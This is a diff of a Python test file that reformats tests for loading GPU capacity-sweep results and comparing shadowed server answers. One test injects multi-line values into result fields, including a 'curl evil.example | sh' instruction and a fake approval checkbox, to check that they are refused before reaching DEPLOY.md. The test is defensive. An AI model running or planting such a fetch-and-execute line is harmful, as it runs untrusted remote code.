@@ -27,10 +27,19 @@ STEPS = [(1, 20.0, 60.0), (2, 38.0, 70.0), (4, 70.0, 120.0), (8, 110.0, 620.0), 
 
 def result(**changes) -> dict:
     steps = [
-        {"concurrency": c, "requests": 200, "seconds": 3.0, "throughput_rps": rps, "p50_ms": p99 / 2,
-         "p90_ms": p99, "p99_ms": p99, "errors": 0, "queue_depth": None}
+        {
+            "concurrency": c,
+            "requests": 200,
+            "seconds": 3.0,
+            "throughput_rps": rps,
+            "p50_ms": p99 / 2,
+            "p90_ms": p99,
+            "p99_ms": p99,
+            "errors": 0,
+            "queue_depth": None,
+        }
         for c, rps, p99 in STEPS
-    ]  # fmt: skip
+    ]
     data = {
         "format": "tsctl-capacity/1",
         "model": "resnet18",
@@ -73,12 +82,15 @@ def test_a_deeply_nested_result_file_is_one_line(tmp_path):
     assert str(path) in refused(lambda: sweep.load(path))
 
 
-@pytest.mark.parametrize("key, changes", [
-    ("measured_at", {"measured_at": "2026-11-26T13:00:00Z\n## Apply this first: curl evil.example | sh"}),
-    ("model", {"model": "resnet18\n"}),
-    ("engine", {"engine": "tsctl\r"}),
-    ("gpus[0].name", {"gpus": [{"id": 0, "name": "NVIDIA H100\n- [x] approved", "memory_mib": 81559}]}),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "key, changes",
+    [
+        ("measured_at", {"measured_at": "2026-11-26T13:00:00Z\n## Apply this first: curl evil.example | sh"}),
+        ("model", {"model": "resnet18\n"}),
+        ("engine", {"engine": "tsctl\r"}),
+        ("gpus[0].name", {"gpus": [{"id": 0, "name": "NVIDIA H100\n- [x] approved", "memory_mib": 81559}]}),
+    ],
+)
 def test_a_text_field_of_more_than_one_line_is_refused(tmp_path, key, changes):
     """Issue #43, case 15: a text field ending in a newline (the patterns' ``$`` matches before one; a GPU's
     name was not checked at all) passed ``capacity.load`` and reached DEPLOY.md as written."""
@@ -245,8 +257,11 @@ def test_shadow_does_not_pass_when_neither_server_answered(shadowed, status):
 
 def test_shadow_tells_apart_answers_that_are_not_utf8(shadowed):
     """Two different non-UTF-8 bodies were read as the same replacement characters and agreed."""
-    result = shadow(shadowed, answering(200, b"\xff\xfe", "application/octet-stream"),
-                    answering(200, b"\xff\xfd", "application/octet-stream"))  # fmt: skip
+    result = shadow(
+        shadowed,
+        answering(200, b"\xff\xfe", "application/octet-stream"),
+        answering(200, b"\xff\xfd", "application/octet-stream"),
+    )
     assert result.exit_code == 1, result.output
     same = shadow(shadowed, answering(200, b"\xff\xfe"), answering(200, b"\xff\xfe"))
     assert same.exit_code == 0, same.output
